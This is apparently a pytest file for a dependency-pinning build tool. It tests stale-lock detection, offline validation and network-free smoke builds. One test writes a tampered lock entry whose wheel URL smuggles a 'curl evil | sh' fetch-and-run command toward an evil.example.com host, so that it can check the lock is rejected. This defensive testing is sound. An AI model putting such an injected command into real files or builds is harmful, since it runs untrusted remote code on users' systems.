"""`resolve --check` (stale lock or upstream moved: exit 1, write nothing) and `resolve --offline` (no network)."""

from __future__ import annotations

import json
import shutil

from tests.support.fake_upstreams import BASE_REPO, BASE_TAG, VLLM_SHA
from tests.support.nemo_repo import use_remote
from tests.support.paths import REPO_ROOT


def resolved(project):
    root, cli = project
    result = cli("resolve")
    assert result.code == 0, result.output
    return root, cli, (root / "pins.lock").read_bytes()


def no_network_env():
    # Every HTTP request goes through a proxy that refuses connections: --offline must not try any. (The endpoints
    # stay as they were: they are inputs the lock is checked against.)
    proxy = "http://127.0.0.1:9"
    return {
        "HTTP_PROXY": proxy,
        "HTTPS_PROXY": proxy,
        "http_proxy": proxy,
        "https_proxy": proxy,
        "NO_PROXY": "",
        "no_proxy": "",
    }


def test_check_passes_on_a_fresh_lock_and_writes_nothing(project):
    root, cli, before = resolved(project)
    result = cli("resolve", "--check", "--json")
    assert result.code == 0, result.output
    assert json.loads(result.stdout)["vllm"]["commit"] == VLLM_SHA
    assert (root / "pins.lock").read_bytes() == before


def test_check_fails_when_pins_changed(project, upstreams):
    root, cli, before = resolved(project)
    (root / "pins.yaml").write_text(
        (root / "pins.yaml").read_text().replace('cuda_arch_list: "9.0"', 'cuda_arch_list: "9.0 10.0"')
    )
    log_size = len(upstreams.github.log)
    result = cli("resolve", "--check")
    assert result.code == 1 and "is stale" in result.stderr and "pins hash differs" in result.stderr
    assert len(upstreams.github.log) == log_size, "a stale lock is known without asking upstream"
    assert (root / "pins.lock").read_bytes() == before


def test_check_fails_when_upstream_moved(project, upstreams):
    root, cli, before = resolved(project)
    old_digest = upstreams.registry.tags[(BASE_REPO, BASE_TAG)]
    # The tag is re-pushed with different content.
    new_digest = upstreams.registry.add_image(BASE_REPO, BASE_TAG, platforms=("linux/amd64", "linux/s390x"))
    assert new_digest != old_digest
    result = cli("resolve", "--check")
    assert result.code == 1, result.output
    assert "upstream no longer agrees" in result.stderr and "base_image.index_digest" in result.stderr
    assert old_digest in result.stderr and new_digest in result.stderr
    assert (root / "pins.lock").read_bytes() == before


def test_check_fails_when_the_wheel_changed(project, upstreams):
    root, cli, before = resolved(project)
    for wheel in upstreams.wheels.files.values():
        wheel.size += 1
    result = cli("resolve", "--check")
    assert result.code == 1 and "wheel.size" in result.stderr


def test_check_without_a_lock(project):
    root, cli = project
    result = cli("resolve", "--check")
    assert result.code == 1 and "no lock to check" in result.stderr
    assert not (root / "pins.lock").exists()


def test_offline_validates_pins_and_lock_without_network(project, upstreams):
    root, cli, before = resolved(project)
    upstreams.stop()
    result = cli("resolve", "--offline", "--json", env=no_network_env())
    assert result.code == 0, result.output
    assert json.loads(result.stdout)["nemo_rl"]["ref"] == "946862e7"
    assert "no network used" in result.stderr


def test_offline_finds_a_lock_that_does_not_match_the_pins(project, upstreams):
    root, cli, before = resolved(project)
    (root / "pins.yaml").write_text((root / "pins.yaml").read_text().replace('ref: "946862e7"', 'ref: "946862e"'))
    result = cli("resolve", "--offline", env=no_network_env())
    assert result.code == 1, result.output
    assert "nemo_rl.ref: lock resolved '946862e7', pins say '946862e'" in result.stderr
    assert (root / "pins.lock").read_bytes() == before


def test_offline_rejects_a_tampered_lock(project):
    root, cli, _ = resolved(project)
    lock = json.loads((root / "pins.lock").read_text())
    lock["wheel"]["url"] = 'https://evil.example.com/x.whl"; RUN curl evil | sh; "'
    (root / "pins.lock").write_text(json.dumps(lock))
    result = cli("resolve", "--offline", env=no_network_env())
    assert result.code == 2 and "invalid lock" in result.stderr and "wheel.url" in result.stderr


def test_offline_on_the_shipped_pins(cli, tmp_path):
    shutil.copy(REPO_ROOT / "pins.yaml", tmp_path / "pins.yaml")
    shutil.copytree(REPO_ROOT / "patches", tmp_path / "patches")
    result = cli("resolve", "--offline", env=no_network_env())
    assert result.code == 0, result.output
    assert "pins valid" in result.stderr and not (tmp_path / "pins.lock").exists()
    result = cli("resolve", "--offline", "--check", env=no_network_env())
    assert result.code == 1 and "no lock" in result.stderr


def _cut_off(upstreams, served) -> dict[str, str]:
    """Every upstream gone: the GitHub API, wheel index and registry stand-ins and the git server closed (their
    ports refuse connections; the pins and the lock still name them), every HTTP request sent to a closed proxy."""
    upstreams.stop()
    served.daemon.stop()
    return no_network_env()


def test_smoke_before_buildx_needs_no_network_once_resolved_and_prepared(project, upstreams, remote):
    """README "No internet": with a current lock and the prepared tree, what `build --smoke` does before buildx
    (the lock check, prepare, render, the plan) asks no upstream. The build itself: the engine test below."""
    root, cli = use_remote(project, remote)  # resolve against the loopback stand-ins
    assert cli("prepare").code == 0
    env = _cut_off(upstreams, remote)
    planned = cli("build", "--smoke", "--dry-run", env=env)
    assert planned.code == 0, planned.output
    assert "resolve: " in planned.stderr and "is current, nothing to do" in planned.stderr
    assert "is prepared for this lock, nothing to do" in planned.stderr
    assert " docker buildx build " in planned.stdout and "--target smoke" in planned.stdout
    prepared = cli("prepare", "--json", env=env)
    assert prepared.code == 0 and json.loads(prepared.stdout)["reused"], prepared.output
    rendered = cli("render", env=env)
    assert rendered.code == 0, rendered.output
    assert cli("resolve", "--offline", env=env).code == 0


def test_smoke_build_needs_no_network_once_resolved_and_prepared(project, upstreams, remote, engine):
    """The whole `build --smoke` with GitHub, the wheel index, the registry stand-in and the git server gone: only
    the engine and its loopback registry (the stand-in base, pinned before the build and pulled by it) are used."""
    from tests.support.projects import smoke_project

    root, cli = smoke_project(project, remote)
    assert cli("prepare").code == 0
    _cut_off(upstreams, remote)
    # No proxy here: the stand-in base's registry is the engine's, on loopback, which a proxy would not reach.
    built = cli("build", "--smoke", "--builder", engine, "--progress", "plain", timeout=600)
    assert built.code == 0, built.output
    record = json.loads((root / "build" / "smoke-record.json").read_text())
    assert record["outcome"] == "succeeded"
